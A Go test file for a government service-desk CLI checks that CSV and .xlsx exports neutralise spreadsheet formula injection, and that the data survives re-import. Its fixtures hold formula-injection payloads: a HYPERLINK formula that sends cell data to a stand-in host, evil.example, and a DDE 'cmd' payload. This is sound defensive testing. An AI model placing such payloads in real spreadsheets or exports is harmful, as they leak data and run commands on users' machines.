package cli

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"govdesk/internal/evaluation"
	"govdesk/internal/store"
	"govdesk/internal/store/storetest"
)

// TestExport_NeutralisesFormulas exports evaluations whose content begins with a
// formula character to CSV and to .xlsx: each such cell starts with a single
// quote (a spreadsheet shows it as text and never runs it), a negative number
// stays a number, and both files import back to the original contents.
func TestExport_NeutralisesFormulas(t *testing.T) {
	contents := map[string]string{
		"PJ1": `=HYPERLINK("http://evil.example/?"&A1,"点击")`,
		"PJ2": "+1+cmd|' /C calc'!A0",
		"PJ3": "-2+3",
		"PJ4": "@SUM(1,2)",
		"PJ5": "=已带引号",
		"PJ6": "-12.5",
		"PJ7": "态度很好",
	}
	storetest.RunDSN(t, func(t *testing.T, dsn string) {
		env := map[string]string{"GOVDESK_DB": dsn}
		units := writeFile(t, "units.csv", []byte("单位编码,单位名称\nU001,市住建局\n"))
		if code, _, errs := run(t, env, "import", "units", units); code != 0 {
			t.Fatal(errs)
		}
		var b strings.Builder
		b.WriteString(evalHead)
		for _, no := range []string{"PJ1", "PJ2", "PJ3", "PJ4", "PJ5", "PJ6", "PJ7"} {
			c := contents[no]
			if no == "PJ5" {
				c = "'" + c // written as text by a spreadsheet: the quote is not part of the value
			}
			b.WriteString(no + ",2022-09-29 10:00:00,网上,窗口,3号窗口,U001,满意,\"" + strings.ReplaceAll(c, `"`, `""`) + "\",\n")
		}
		if code, out, errs := run(t, env, "import", "evaluations", writeFile(t, "ev.csv", []byte(b.String()))); code != 0 {
			t.Fatalf("import: %d %s %s", code, out, errs)
		}
		check := func(how string) {
			t.Helper()
			db, ctx := openDB(t, dsn)
			evs, err := (&store.Evaluations{DB: db}).FindEvaluations(ctx, evaluation.Filter{To: storetest.At("2030-01-01T00:00:00Z")})
			if err != nil || len(evs) != len(contents) {
				t.Fatalf("%s: %d evaluations, %v", how, len(evs), err)
			}
			for _, ev := range evs {
				if ev.Content != contents[ev.No] {
					t.Errorf("%s: %s content = %q, want %q", how, ev.No, ev.Content, contents[ev.No])
				}
			}
		}
		check("import")
		dir := t.TempDir()
		for _, name := range []string{"ev.csv", "ev.xlsx"} {
			out := filepath.Join(dir, name)
			if code, o, errs := run(t, env, "export", "evaluations", "--from", "2022-09-01", "--to", "2022-10-31", "--out", out); code != 0 {
				t.Fatalf("export %s: %d %s %s", name, code, o, errs)
			}
			cells := exportedCells(t, out)
			for no, want := range map[string]string{
				"PJ1": "'" + contents["PJ1"], "PJ2": "'" + contents["PJ2"], "PJ3": "'-2+3", "PJ4": "'@SUM(1,2)",
				"PJ5": "'=已带引号", "PJ6": "-12.5", "PJ7": "态度很好",
			} {
				if !cells[want] {
					t.Errorf("%s: %s's content not written as %q", name, no, want)
				}
			}
			if code, o, errs := run(t, env, "import", "evaluations", out); code != 0 || !strings.Contains(o, `"updated":7`) {
				t.Fatalf("re-import %s: %d %s %s", name, code, o, errs)
			}
			check("re-import of " + name)
		}
	})
}

// exportedCells returns every cell value of a CSV or .xlsx export, as the file holds it.
func exportedCells(t *testing.T, path string) map[string]bool {
	t.Helper()
	cells := map[string]bool{}
	if strings.HasSuffix(path, ".csv") {
		raw, err := os.ReadFile(path)
		if err != nil {
			t.Fatal(err)
		}
		// Quoted CSV fields: unquote the simple way, enough for these values.
		for _, line := range strings.Split(strings.TrimPrefix(string(raw), "\ufeff"), "\r\n") {
			for _, f := range splitCSVLine(line) {
				cells[f] = true
			}
		}
		return cells
	}
	f, err := excelize.OpenFile(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := f.GetRows(f.GetSheetList()[0])
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range rows {
		for _, c := range r {
			cells[c] = true
		}
	}
	return cells
}

func splitCSVLine(line string) []string {
	var out []string
	var cur strings.Builder
	quoted := false
	for i := 0; i < len(line); i++ {
		c := line[i]
		switch {
		case quoted && c == '"' && i+1 < len(line) && line[i+1] == '"':
			cur.WriteByte('"')
			i++
		case c == '"':
			quoted = !quoted
		case c == ',' && !quoted:
			out = append(out, cur.String())
			cur.Reset()
		default:
			cur.WriteByte(c)
		}
	}
	return append(out, cur.String())
}
